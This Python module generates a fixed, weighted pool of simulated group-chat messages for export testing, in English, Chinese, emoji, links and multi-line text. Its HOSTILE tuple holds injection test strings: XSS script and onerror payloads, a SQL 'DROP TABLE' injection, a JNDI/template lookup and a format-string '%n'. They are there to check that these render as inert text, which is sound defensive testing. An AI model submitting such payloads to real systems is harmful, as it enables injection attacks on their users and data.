"""What simulated members say: a fixed, weighted pool of message texts.

Texts are drawn by index, so a writer turns millions of messages into lines by
taking from one small array instead of formatting a string per message. The pool
mixes the content real groups carry — one-word acknowledgements, questions about
the group's events, Chinese, emoji (with zero-width joiners and flags), links,
multi-line posts and hostile strings — and marks the ones every export must show
at least once (:attr:`TextPool.must_appear`).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

import numpy as np
import numpy.typing as npt

#: The acknowledgement members repeat; the community writes it twice in a row
#: (same author, same minute) to test idempotency keys.
OK: Final = "ok"

_SHORT: Final = (
    "Ok", "👍", "thanks!", "Thank you 🙏", "谢谢", "好的", "收到", "lol", "😂😂😂", "haha",
    "+1", "agreed", "same here", "yes", "no", "good morning ☀️", "早上好", "晚安", "nice!",
    "🎉", "❤️", "👏👏", "got it", "on my way", "sure", "welcome!", "欢迎欢迎", "congrats 🎊",
)  # fmt: skip

_TOPICS: Final = (
    "the workshop", "Saturday's meetup", "the new schedule", "our next event",
    "the reading list", "the daily check-in", "the live stream", "the survey",
    "the points ranking", "the beta test", "the group rules", "the night run",
    "the Q&A session", "the badge ideas", "the city walk",
)  # fmt: skip

_TEMPLATES: Final = (
    "Does anyone know when {t} starts?",
    "I really enjoyed {t} 😊",
    "Can someone share the slides from {t}?",
    "Reminder: {t} is tomorrow at 8pm",
    "Who is coming to {t}?",
    "Thanks everyone for {t}!",
    "Is {t} still on?",
    "I posted my notes about {t} in the album",
    "+1 for {t}",
    "Sorry I missed {t}, anything important?",
    "Note: {t} moved to the big room",
    "What time is {t} again",
    "Loved {t}, let's do it every month",
    "Can we vote on {t}?",
    "I'd like to help with {t}",
)

_CHINESE: Final = (
    "今天的分享很有收获，谢谢大家",
    "明天晚上八点直播，别忘了 ⏰",
    "有人知道报名链接在哪里吗？",
    "这个活动太棒了 🎉",
    "请大家按时打卡",
    "欢迎新朋友加入！",
    "我已经把资料上传到群文件了",
    "周末有空的一起来参加线下活动吧",
    "群规请看公告",
    "积分排行榜更新了 🏆",
)

_URLS: Final = (
    "Here is the link: https://example.com/events/spring-meetup",
    "Slides: https://docs.example.org/s/3f9a1c",
    "Bug report https://github.com/example/shequn/issues/42",
    "see www.example.net/faq for the rules",
    "Registration: https://example.com/r?utm_source=group&id=77",
)

_EMOJI: Final = (
    "🔥🔥🔥",
    "🙌 well done team",
    "👨‍👩‍👧 family day photos coming soon",
    "🇨🇳🇩🇪🇧🇷 so international!",
    "🏃‍♀️💨 5k done",
)

#: Hostile strings: the importer and every report must show them as inert text.
HOSTILE: Final = (
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE members;--",
    "{{7*7}} ${jndi:ldap://example.com/a}",
    "<img src=x onerror=alert(1)>",
    "%s%s%s%n",
)

#: Multi-line posts; several continuation lines start like a date but are no header.
MULTILINE: Final = (
    "See you all next year!\n12/31 was fun",
    "Agenda for Saturday:\n1. Welcome\n2. Demo\n3. Q&A",
    "Happy new year 🎆\n2024/01/01 let's go!",
    "Reminder\n31/12 party at 8pm\nbring snacks",
    "Notes from today\n- check-ins are up\n- new badge ideas",
    "Quote:\n> the best time to start was yesterday\n> the next best is now",
    "地址：\n上海市徐汇区\n周六下午两点",
    "Line one\nLine two",
)

_LONG: Final = (
    "Long post incoming. " + "We learned a lot this month about running the group, "
    "what works for newcomers and what does not. " * 6
).strip()


@dataclass(frozen=True)
class TextPool:
    """Message texts with sampling weights; messages refer to them by index."""

    texts: tuple[str, ...]
    probabilities: npt.NDArray[np.float64]
    #: number of line breaks inside each text
    newlines: npt.NDArray[np.int32]
    #: index of :data:`OK`
    ok: int
    #: indices every export of ≥ a few thousand messages shows at least once
    must_appear: tuple[int, ...]

    def sample(self, rng: np.random.Generator, n: int) -> npt.NDArray[np.int32]:
        """``n`` text indices drawn by weight."""
        cum = np.cumsum(self.probabilities)
        idx = np.searchsorted(cum, rng.random(n) * cum[-1], side="right")
        out: npt.NDArray[np.int32] = np.minimum(idx, len(self.texts) - 1).astype(np.int32)
        return out


def build_text_pool() -> TextPool:
    """The pool every simulated community draws from (fixed: it has no seed)."""
    groups: list[tuple[tuple[str, ...], float]] = [
        ((OK,), 0.05),
        (_SHORT, 0.331),
        (tuple(t.format(t=topic) for t in _TEMPLATES for topic in _TOPICS), 0.40),
        (_CHINESE, 0.10),
        (_URLS, 0.05),
        (_EMOJI, 0.04),
        (MULTILINE, 0.012),
        (HOSTILE, 0.002),
        ((_LONG,), 0.005),
    ]
    texts: list[str] = []
    probs: list[float] = []
    for members, share in groups:
        # Zipf-like inside a group: the first texts are said most often.
        ranks = np.arange(1, len(members) + 1, dtype=np.float64)
        w = 1.0 / ranks**0.6
        w = w / w.sum() * share
        texts.extend(members)
        probs.extend(float(x) for x in w)
    p = np.asarray(probs, dtype=np.float64)
    index = {t: i for i, t in enumerate(texts)}
    must = (
        index[OK],
        *(index[t] for t in MULTILINE[:4]),
        index[HOSTILE[0]],
        index[_CHINESE[0]],
        index[_EMOJI[2]],
        index[_URLS[0]],
    )
    return TextPool(
        texts=tuple(texts),
        probabilities=p / p.sum(),
        newlines=np.asarray([t.count("\n") for t in texts], dtype=np.int32),
        ok=index[OK],
        must_appear=must,
    )
